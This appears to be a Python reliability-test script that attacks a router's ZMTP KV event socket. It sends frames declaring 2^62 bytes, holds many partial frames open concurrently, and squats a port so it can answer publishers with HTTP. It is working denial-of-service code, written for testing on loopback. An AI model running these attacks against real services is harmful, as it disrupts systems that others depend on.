#!/usr/bin/python3
"""A hostile client of a KV event endpoint that the router binds
(kv_events_bind), for docs/reliability.md, "KV event sockets". Loopback or
a test network only.

usage: kvattack.py huge HOST:PORT N
           N connections one after another, each completing the ZMTP 3.0
           handshake as a PUB and declaring a frame of 2^62 bytes; prints
           how many the router closed.
       kvattack.py hold HOST:PORT N DECLARED SENT SECONDS
           N connections at once, each declaring a frame of DECLARED bytes
           and sending SENT bytes of it, held open for SECONDS.
       kvattack.py squat PORT
           listens on 127.0.0.1:PORT before a subscriber does, answers the
           first connection (a publisher's dial) with HTTP instead of ZMTP,
           then frees the port.
"""
import socket
import struct
import sys
import time


def handshake():
    greeting = bytearray(64)
    greeting[0], greeting[9], greeting[10] = 0xFF, 0x7F, 3
    greeting[12:16] = b"NULL"
    body = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 3) + b"PUB"
    return bytes(greeting) + bytes([0x04, len(body)]) + body


def header(size):
    return bytes([0x02]) + struct.pack(">Q", size)


def connect(addr):
    host, port = addr.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=10)


def huge(addr, n):
    closed = 0
    for _ in range(n):
        s = connect(addr)
        s.sendall(handshake() + header(1 << 62))
        try:
            while s.recv(65536):
                pass
            closed += 1
        except ConnectionResetError:
            closed += 1
        except socket.timeout:
            pass
        s.close()
    print(f"{closed} of {n} connections closed by the router", flush=True)


def hold(addr, n, declared, sent, seconds):
    conns = []
    for _ in range(n):
        s = connect(addr)
        s.sendall(handshake() + header(declared) + b"\0" * sent)
        conns.append(s)
    print(f"{n} connections each declaring {declared} bytes, {sent} sent", flush=True)
    time.sleep(seconds)
    for s in conns:
        s.close()


def squat(port):
    ln = socket.socket()
    ln.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ln.bind(("127.0.0.1", port))
    ln.listen(1)
    c, _ = ln.accept()
    c.sendall(b"HTTP/1.1 400 Bad Request\r\n" * 4)
    ln.close()
    time.sleep(0.5)
    c.close()


def main():
    mode, addr = sys.argv[1], sys.argv[2]
    if mode == "huge":
        huge(addr, int(sys.argv[3]))
    elif mode == "squat":
        squat(int(addr))
    elif mode == "hold":
        hold(addr, int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
